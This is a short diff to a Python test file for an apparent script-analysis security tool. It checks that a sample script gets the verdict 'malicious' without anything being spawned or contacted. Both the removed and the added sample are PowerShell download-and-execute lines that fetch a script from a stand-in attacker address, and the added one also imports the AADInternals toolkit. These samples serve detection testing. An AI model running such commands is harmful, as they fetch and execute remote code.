@@ -63,6 +63,6 @@ def test_analysing_every_sample_spawns_nothing_and_connects_nowhere(sealed: None
 
 
 def test_the_skill_with_the_tenant_spawns_nothing(demo_tenant: DemoTenant, sealed: None) -> None:
-    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
+    script = "Import-Module AADInternals\nIEX (iwr 'http://203.0.113.9/a.ps1')"
     result = default_registry().get("script_analysis").run(demo_tenant.store, {"script": script})
-    assert result.facts.verdict == "malicious"
+    assert result.facts.analysis.verdict == "malicious"
